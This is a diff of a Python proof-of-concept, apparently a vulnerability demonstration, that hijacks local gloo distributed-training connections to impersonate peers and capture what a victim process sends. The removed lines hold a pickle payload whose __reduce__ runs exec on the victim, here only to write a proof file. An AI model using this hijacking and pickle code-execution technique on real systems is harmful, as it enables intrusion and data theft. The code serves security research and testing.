@@ -6,7 +6,6 @@ All that is known of the victim is its number, UID, and with it what /proc/net/t
 from __future__ import annotations
 
 import contextlib
-import pickle
 import select
 import socket
 import struct
@@ -98,9 +97,6 @@ class Sniffer(threading.Thread):
 
 # ---- gloo --------------------------------------------------------------------------------------
 
-_PREAMBLE = struct.Struct("<6Q")  # bytes, operation, slot, offset, length, offset there
-_SEND, _READY_TO_SEND, _READY_TO_RECEIVE = range(1, 4)
-
 
 @dataclass
 class _Knock:
@@ -110,24 +106,21 @@ class _Knock:
     place: tuple[int, int]  # port, number
     until: float  # then it is tried anew, if nobody has opened
     open: bool = False
-    data: bytes = b""  # read, and not understood yet
-    num_handed: int = 0  # parts of the pickle
-    start: int = 0  # of the next one
 
 
 class Hijacker(threading.Thread):
-    """Connects to each listener before the true peer does, and speaks gloo to who answers.
+    """Connects to each listener before the true peer does, and takes the place of each number.
 
-    It knocks again and again where nobody opens, and where it was thrown out. It takes what is
-    sent, and hands over a pickle that leaves the file `proof` when it is read.
+    It knocks again and again where nobody opens, and where it was thrown out; `read` has what the
+    victim has sent. Who sends nothing to a peer does not read what that has sent either: gloo
+    answers each message that comes.
     """
 
-    def __init__(self, uid: int, proof: str) -> None:
+    def __init__(self, uid: int) -> None:
         super().__init__(daemon=True)
-        self.read: list[str] = []  # what the victim has sent
+        self.read: list[str] = []
         self.knocked = 0  # connections that it has begun
         self.looked = 0
-        self._evil = pickle.dumps(_Evil(proof))
         self._uid = uid
         self._low = int(_GIVEN_AWAY.read_text().split()[0])
         self._poll = select.epoll()
@@ -146,20 +139,24 @@ class Hijacker(threading.Thread):
                 knock = self._knocks[fd]
                 try:
                     if knock.open:
-                        self._listen(knock)
+                        data = knock.socket.recv(1 << 16)
+                        if not data:
+                            raise ConnectionError
+                        self.read.append(repr(data[:200]))
+                        knock.socket.sendall(data)  # as good an answer as any
                     elif event & select.EPOLLOUT:
                         knock.socket.sendall(struct.pack("<q", knock.place[1]))
                         knock.open = True
                         self._poll.modify(fd, select.EPOLLIN)
                 except OSError:
-                    self._drop(fd)
+                    self._knocks.pop(fd).socket.close()
 
     def _knock(self, place: tuple[int, int]) -> None:
         now, fd = time.monotonic(), self._places.get(place, -1)
         if knock := self._knocks.get(fd):
             if knock.open or now < knock.until:
                 return
-            self._drop(fd)
+            self._knocks.pop(fd).socket.close()
         one = socket.socket(type=socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
         with contextlib.suppress(BlockingIOError):
             one.connect(("127.0.0.1", place[0]))
@@ -170,54 +167,6 @@ class Hijacker(threading.Thread):
         self._places[place] = one.fileno()
         self._poll.register(one.fileno(), select.EPOLLOUT)
 
-    def _drop(self, fd: int) -> None:
-        self._knocks.pop(fd).socket.close()
-
-    def _listen(self, knock: _Knock) -> None:
-        data = knock.socket.recv(1 << 16)
-        if not data:
-            raise ConnectionError
-        knock.data += data
-        knock.socket.setblocking(True)  # for what is sent
-        self._answer(knock)
-        knock.socket.setblocking(False)
-
-    def _answer(self, knock: _Knock) -> None:
-        send = knock.socket.sendall
-        while len(knock.data) >= _PREAMBLE.size:
-            size, operation, slot, offset, length, there = _PREAMBLE.unpack(knock.data[:48])
-            if operation == _SEND:
-                if len(knock.data) < size:
-                    break
-                self.read.append(repr(knock.data[48:size][:200]))
-                knock.data = knock.data[size:]
-                continue
-            knock.data = knock.data[48:]
-            if operation == _READY_TO_SEND:
-                send(_PREAMBLE.pack(48, _READY_TO_RECEIVE, slot, offset, length, there))
-            elif operation == _READY_TO_RECEIVE:
-                content = self._content(knock, length)
-                send(_PREAMBLE.pack(48, _READY_TO_SEND, slot, offset, length, there))
-                size = _PREAMBLE.size + length
-                send(_PREAMBLE.pack(size, _SEND, slot, offset, length, there) + content)
-
-    def _content(self, knock: _Knock, length: int) -> bytes:
-        """As `all_gather_object` has it: the size of the pickle, an answer, the pickle."""
-        knock.num_handed += 1
-        if knock.num_handed <= 2:
-            size = struct.pack("<q", len(self._evil)) if knock.num_handed == 1 else b""
-            return size.ljust(length, b"\0")[:length]
-        start, knock.start = knock.start, knock.start + length
-        return self._evil[start : start + length].ljust(length, b"\0")
-
-
-class _Evil:
-    def __init__(self, proof: str) -> None:
-        self._proof = proof
-
-    def __reduce__(self) -> Any:
-        return exec, (f"import os; open({self._proof!r}, 'a').write(str(os.getuid()) + ' ')",)
-
 
 if __name__ == "__main__":
     uid = int(sys.argv[2])
@@ -225,5 +174,5 @@ if __name__ == "__main__":
         one = Sniffer(uid)
         serve({"report": one.report})
     else:
-        other = Hijacker(uid, sys.argv[3])
+        other = Hijacker(uid)
         serve({"report": lambda: {n: getattr(other, n) for n in ("looked", "knocked", "read")}})
